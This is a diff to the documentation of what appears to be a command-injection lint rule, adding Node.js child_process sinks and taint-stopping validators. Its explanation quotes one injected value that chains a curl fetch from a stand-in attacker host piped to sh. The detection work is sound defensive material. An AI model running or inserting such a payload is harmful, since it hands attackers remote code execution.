@@ -8,6 +8,11 @@
 //! `int`/`float`, allow-list membership (`if x not in ALLOWED: return`) and
 //! `x.isalnum()`-style validators stop the taint; argument lists without a shell are safe.
 //!
+//! In JavaScript (Node.js) handlers: `child_process.exec/execSync`, and
+//! `spawn`/`execFile` with `{ shell: true }` or `('sh', ['-c', ...])`, whatever the import
+//! style (`require`, destructuring, `import`, `node:` prefix, `util.promisify`);
+//! `parseInt`/`Number` and `ALLOWED.includes(x)` / anchored `/^...$/.test(x)` checks stop the taint.
+//!
 //! ## Why is this bad?
 //! The shell interprets `;`, `|`, `$( )` and backticks, so a value such as
 //! `example.com; curl https://evil.example/x | sh` runs the attacker's commands with the
